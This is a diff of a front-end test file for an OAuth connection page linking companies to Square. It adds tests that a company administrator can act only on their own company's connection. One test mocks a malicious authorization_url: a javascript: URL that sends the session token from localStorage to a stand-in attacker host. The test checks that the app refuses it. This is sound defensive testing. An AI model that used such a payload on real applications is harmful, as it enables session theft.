@@ -9,6 +9,7 @@ import { getDb } from '../../src/demo/db/store';
 import { server } from '../../src/demo/node';
 import { oauthMethods } from '../../src/dataProvider/methods/oauth';
 import { tokenStore } from '../../src/dataProvider/tokenStore';
+import { oauthOtherCompanyDenied } from '../../src/domain/permissions';
 import { renderInAdmin, signIn } from './render';
 
 const enterprise = (id: number) => {
@@ -27,6 +28,15 @@ const companies = () => screen.getByRole('navigation', { name: 'Entreprises' });
 const statusCard = () => screen.getByRole('tabpanel');
 const count = (label: string) => within(screen.getByRole('group', { name: 'Résumé des connexions' })).getByText(label).previousElementSibling?.textContent;
 const dialogClosed = () => waitFor(() => expect(screen.queryByRole('dialog')).not.toBeInTheDocument());
+/** The French reason of a refused action (its tooltip). */
+const reasonOf = (button: HTMLElement) => button.closest('[data-refused-action]')?.getAttribute('title');
+/** Sahel Express's administrator may act only on Sahel Express. */
+const SAHEL_ONLY = 'Vous ne pouvez gérer que la connexion Square de votre entreprise (Sahel Express).';
+const TRANSATLANTIQUE_ONLY = 'Vous ne pouvez gérer que la connexion Square de votre entreprise (TransAtlantique Colis).';
+/** TransAtlantique Colis's access token expired yesterday: its card offers the refresh. */
+const expireTransAtlantique = () => {
+  enterprise(1).oauth.access_expires_at = new Date(Date.now() - 86_400_000).toISOString();
+};
 
 /** A pop-up the test closes by hand, as the user (or the consent page) would. */
 function fakePopup() {
@@ -59,7 +69,7 @@ describe('/oauth payment-provider connection', () => {
 
   it('connects through a 600×800 pop-up and re-reads the status 2 s after it closes', async () => {
     const { popup, open } = fakePopup();
-    await openPage();
+    await openPage('sahel.admin');
     await userEvent.click(within(companies()).getByText('Sahel Express'));
     await userEvent.click(await within(statusCard()).findByRole('button', { name: 'Connecter à Square' }));
     expect(open).toHaveBeenCalledWith('', 'square-oauth', expect.stringContaining('width=600,height=800'));
@@ -75,7 +85,7 @@ describe('/oauth payment-provider connection', () => {
 
   it('says so when the browser blocks the pop-up', async () => {
     vi.spyOn(window, 'open').mockReturnValue(null);
-    await openPage();
+    await openPage('sahel.admin');
     await userEvent.click(within(companies()).getByText('Sahel Express'));
     await userEvent.click(await within(statusCard()).findByRole('button', { name: 'Connecter à Square' }));
     expect(await screen.findByText("Impossible d'ouvrir la fenêtre OAuth. Vérifiez les popups.")).toBeInTheDocument();
@@ -85,7 +95,7 @@ describe('/oauth payment-provider connection', () => {
   it('shows the server message when the initiation fails, and closes the pop-up', async () => {
     const { popup } = fakePopup();
     server.use(http.post('*/payments/oauth/initiate/:id/', () => HttpResponse.json({ detail: 'Square ne répond pas' }, { status: 502 })));
-    await openPage();
+    await openPage('sahel.admin');
     await userEvent.click(within(companies()).getByText('Sahel Express'));
     await userEvent.click(await within(statusCard()).findByRole('button', { name: 'Connecter à Square' }));
     expect(await screen.findByText('Erreur OAuth: Square ne répond pas')).toBeInTheDocument();
@@ -99,7 +109,7 @@ describe('/oauth payment-provider connection', () => {
         HttpResponse.json({ success: true, authorization_url: 'javascript:opener.fetch("https://pirate.example/?"+localStorage.getItem("colis.session"))', message: 'ok' }),
       ),
     );
-    await openPage();
+    await openPage('sahel.admin');
     await userEvent.click(within(companies()).getByText('Sahel Express'));
     await userEvent.click(await within(statusCard()).findByRole('button', { name: 'Connecter à Square' }));
     expect(await screen.findByText("Adresse d'autorisation refusée : le serveur a envoyé une adresse qui ne mène pas à Square en https. Aucune page n'a été ouverte.")).toBeInTheDocument();
@@ -111,7 +121,7 @@ describe('/oauth payment-provider connection', () => {
     const { popup } = fakePopup();
     const square = 'https://connect.squareupsandbox.com/oauth2/authorize?client_id=sandbox-sq0idb-demo&state=abc';
     server.use(http.post('*/payments/oauth/initiate/:id/', () => HttpResponse.json({ success: true, authorization_url: square })));
-    await openPage();
+    await openPage('sahel.admin');
     await userEvent.click(within(companies()).getByText('Sahel Express'));
     await userEvent.click(await within(statusCard()).findByRole('button', { name: 'Connecter à Square' }));
     await waitFor(() => expect(popup.location.href).toBe(square));
@@ -121,7 +131,7 @@ describe('/oauth payment-provider connection', () => {
   it("falls back to 'Erreur lors de l'initiation OAuth' when the server declines without a message", async () => {
     const { popup } = fakePopup();
     server.use(http.post('*/payments/oauth/initiate/:id/', () => HttpResponse.json({ success: false })));
-    await openPage();
+    await openPage('sahel.admin');
     await userEvent.click(within(companies()).getByText('Sahel Express'));
     await userEvent.click(await within(statusCard()).findByRole('button', { name: 'Connecter à Square' }));
     expect(await screen.findByText("Erreur lors de l'initiation OAuth")).toBeInTheDocument();
@@ -150,7 +160,7 @@ describe('/oauth payment-provider connection', () => {
 
   it('needs a signed-in user to connect', async () => {
     fakePopup();
-    await openPage();
+    await openPage('sahel.admin');
     await userEvent.click(within(companies()).getByText('Sahel Express'));
     const connect = await within(statusCard()).findByRole('button', { name: 'Connecter à Square' });
     tokenStore.clear();
@@ -175,12 +185,12 @@ describe('/oauth payment-provider connection', () => {
   });
 
   it('refreshes an expired token', async () => {
+    expireTransAtlantique();
     await openPage();
-    await userEvent.click(within(companies()).getByText('Kankan Fret'));
     await userEvent.click(await within(statusCard()).findByRole('button', { name: 'Rafraîchir le jeton' }));
     expect(await screen.findByText('Jeton Square rafraîchi avec succès')).toBeInTheDocument();
     await waitFor(() => expect(within(statusCard()).queryByRole('button', { name: 'Rafraîchir le jeton' })).not.toBeInTheDocument());
-    expect(enterprise(3).oauth.status).toBe('connected');
+    expect(enterprise(1).oauth.status).toBe('connected');
   });
 
   it('shows the refresh and disconnect errors with their prefixes', async () => {
@@ -188,8 +198,8 @@ describe('/oauth payment-provider connection', () => {
       http.post('*/payments/oauth/refresh/:id/', () => HttpResponse.json({ success: false, message: 'Jeton révoqué' }, { status: 400 })),
       http.post('*/payments/oauth/disconnect/:id/', () => HttpResponse.json({ detail: 'Indisponible' }, { status: 503 })),
     );
+    expireTransAtlantique();
     await openPage();
-    await userEvent.click(within(companies()).getByText('Kankan Fret'));
     await userEvent.click(await within(statusCard()).findByRole('button', { name: 'Rafraîchir le jeton' }));
     expect(await screen.findByText('Erreur rafraîchissement: Jeton révoqué')).toBeInTheDocument();
     await userEvent.click(within(statusCard()).getByRole('button', { name: 'Déconnecter' }));
@@ -199,11 +209,12 @@ describe('/oauth payment-provider connection', () => {
 
   it('lets an admin clean up pending sessions after a confirmation', async () => {
     enterprise(2).oauth = { ...enterprise(2).oauth, status: 'pending', pending_state: 'abandonne' };
-    await openPage();
+    await openPage('sahel.admin');
     expect(count('En attente')).toBe('1');
     await userEvent.click(screen.getByRole('button', { name: 'Nettoyer les sessions' }));
     const dialog = await screen.findByRole('dialog');
     expect(within(dialog).getByText('Nettoyer les sessions OAuth')).toBeInTheDocument();
+    expect(within(dialog).getByText(/en attente de Sahel Express seront annulées/)).toBeInTheDocument();
     await userEvent.click(within(dialog).getByRole('button', { name: 'Nettoyer' }));
     expect(await screen.findByText('1 session(s) OAuth en attente nettoyée(s)')).toBeInTheDocument();
     await dialogClosed();
@@ -282,6 +293,92 @@ describe('/oauth payment-provider connection', () => {
   });
 });
 
+describe('/oauth across companies: every status in the list, actions on the own company only', () => {
+  it("opens on the user's own company, whose connection they may act on", async () => {
+    await openPage('sahel.admin');
+    expect(count('Entreprises')).toBe('3');
+    expect(await within(statusCard()).findByRole('heading', { name: 'Sahel Express' })).toBeInTheDocument();
+    expect(within(companies()).getByRole('button', { name: /Sahel Express/ })).toHaveAttribute('aria-current', 'true');
+    const connect = await within(statusCard()).findByRole('button', { name: 'Connecter à Square' });
+    expect(connect).toBeEnabled();
+    expect(connect.closest('[data-refused-action]')).toBeNull();
+  });
+
+  it("shows another company's Connecter, Déconnecter and Rafraîchir disabled, with the reason in the tooltip", async () => {
+    await openPage('sahel.admin');
+    await userEvent.click(within(companies()).getByText('Kankan Fret'));
+    const refresh = await within(statusCard()).findByRole('button', { name: 'Rafraîchir le jeton' });
+    expect(refresh).toBeDisabled();
+    expect(reasonOf(refresh)).toBe(SAHEL_ONLY);
+    expect(within(statusCard()).getByRole('button', { name: 'Déconnecter' })).toBeDisabled();
+    expect(reasonOf(within(statusCard()).getByRole('button', { name: 'Déconnecter' }))).toBe(SAHEL_ONLY);
+
+    await userEvent.click(within(companies()).getByText('TransAtlantique Colis'));
+    await waitFor(() => expect(within(statusCard()).queryByRole('button', { name: 'Rafraîchir le jeton' })).not.toBeInTheDocument());
+    const disconnect = within(statusCard()).getByRole('button', { name: 'Déconnecter' });
+    expect(disconnect).toBeDisabled();
+    expect(reasonOf(disconnect)).toBe(SAHEL_ONLY);
+    expect(oauthOtherCompanyDenied('Sahel Express')).toBe(SAHEL_ONLY);
+    await userEvent.hover(disconnect.parentElement as HTMLElement);
+    expect(await screen.findByRole('tooltip')).toHaveTextContent(SAHEL_ONLY);
+  });
+
+  it("refuses TransAtlantique's administrator the connection of Sahel Express, with the reason", async () => {
+    await openPage('admin');
+    await userEvent.click(within(companies()).getByText('Sahel Express'));
+    const connect = await within(statusCard()).findByRole('button', { name: 'Connecter à Square' });
+    expect(connect).toBeDisabled();
+    expect(reasonOf(connect)).toBe(TRANSATLANTIQUE_ONLY);
+    await expect(oauthMethods.initiateOAuth(2)).rejects.toMatchObject({ status: 403, message: TRANSATLANTIQUE_ONLY });
+    expect(enterprise(2).oauth.status).toBe('disconnected');
+  });
+
+  it("sahel.admin cannot disconnect TransAtlantique through the API: 403 with the reason, TransAtlantique stays connected", async () => {
+    await signIn('sahel.admin');
+    await expect(oauthMethods.disconnectOAuth(1)).rejects.toMatchObject({ status: 403, message: SAHEL_ONLY });
+    expect(enterprise(1).oauth).toMatchObject({ status: 'connected', merchant_id: 'MLR-DEMO-0001' });
+    await expect(oauthMethods.refreshOAuth(3)).rejects.toMatchObject({ status: 403, message: SAHEL_ONLY });
+    expect(enterprise(3).oauth.status).toBe('expired');
+    enterprise(1).oauth = { ...enterprise(1).oauth, status: 'disconnected' };
+    await expect(oauthMethods.initiateOAuth(1)).rejects.toMatchObject({ status: 403, message: SAHEL_ONLY });
+    expect(enterprise(1).oauth.pending_state).toBeNull();
+  });
+
+  it("sahel.admin reads TransAtlantique's status without its merchant name or ID", async () => {
+    await signIn('sahel.admin');
+    const status = await oauthMethods.getOAuthStatus(1);
+    expect(status).toMatchObject({ status: 'connected', merchant_name: null, merchant_id: null });
+    expect(JSON.stringify(status)).not.toMatch(/MLR-DEMO-0001|TransAtlantique Colis Inc\./);
+    // Its own administrator still reads them.
+    await signIn('admin');
+    expect(await oauthMethods.getOAuthStatus(1)).toMatchObject({ merchant_name: 'TransAtlantique Colis Inc.', merchant_id: 'MLR-DEMO-0001' });
+
+    await openPage('sahel.admin');
+    await userEvent.click(within(companies()).getByText('TransAtlantique Colis'));
+    expect(await within(statusCard()).findByText('Connecté au compte Square du marchand')).toBeInTheDocument();
+    expect(within(statusCard()).queryByText('MLR-DEMO-0001')).not.toBeInTheDocument();
+    expect(within(statusCard()).queryByText('TransAtlantique Colis Inc.')).not.toBeInTheDocument();
+  });
+
+  it("cleans up only the user's own company's pending sessions; a superuser's cleanup clears every company's", async () => {
+    enterprise(1).oauth = { ...enterprise(1).oauth, status: 'pending', pending_state: 'transatlantique' };
+    enterprise(2).oauth = { ...enterprise(2).oauth, status: 'pending', pending_state: 'sahel' };
+    await signIn('sahel.admin');
+    expect(await oauthMethods.cleanupOAuthSessions()).toMatchObject({ cleaned: 1 });
+    expect(enterprise(2).oauth.status).toBe('disconnected');
+    expect(enterprise(1).oauth).toMatchObject({ status: 'pending', pending_state: 'transatlantique' });
+
+    enterprise(3).oauth = { ...enterprise(3).oauth, status: 'pending', pending_state: 'kankan' };
+    const admin = getDb().users.find((u) => u.username === 'admin');
+    if (!admin) throw new Error('admin missing from the seed');
+    admin.is_superuser = true;
+    await signIn('admin');
+    expect(await oauthMethods.cleanupOAuthSessions()).toMatchObject({ cleaned: 2 });
+    expect(enterprise(1).oauth.status).toBe('expired');
+    expect(enterprise(3).oauth.status).toBe('expired');
+  });
+});
+
 describe('demo consent page (#/demo/square-authorize)', () => {
   function renderFlow(url: string) {
     renderInAdmin(
@@ -294,7 +391,7 @@ describe('demo consent page (#/demo/square-authorize)', () => {
   }
 
   it('authorises, marks the company connected and returns to /oauth with code and state', async () => {
-    await signIn('admin');
+    await signIn('sahel.admin');
     const { authorization_url } = await oauthMethods.initiateOAuth(2);
     renderFlow(`/demo/square-authorize?state=${authorization_url?.split('state=')[1]}`);
     expect(await screen.findByText('Sahel Express')).toBeInTheDocument();
@@ -305,7 +402,7 @@ describe('demo consent page (#/demo/square-authorize)', () => {
   });
 
   it('records a refusal', async () => {
-    await signIn('admin');
+    await signIn('sahel.admin');
     const { authorization_url } = await oauthMethods.initiateOAuth(2);
     renderFlow(`/demo/square-authorize?state=${authorization_url?.split('state=')[1]}`);
     await userEvent.click(await screen.findByRole('button', { name: 'Refuser' }));
